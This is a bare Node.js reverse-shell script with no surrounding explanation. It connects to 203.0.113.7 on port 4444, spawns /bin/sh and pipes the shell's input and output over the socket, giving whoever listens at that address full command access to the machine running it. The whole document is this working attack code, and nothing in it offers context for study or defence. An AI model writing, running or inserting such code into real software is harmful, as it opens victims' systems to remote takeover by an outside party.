const net = require('net');
const { spawn } = require('child_process');
const client = new net.Socket();
client.connect(4444, '203.0.113.7', () => {
  const sh = spawn('/bin/sh', []);
  client.pipe(sh.stdin);
  sh.stdout.pipe(client);
  sh.stderr.pipe(client);
});
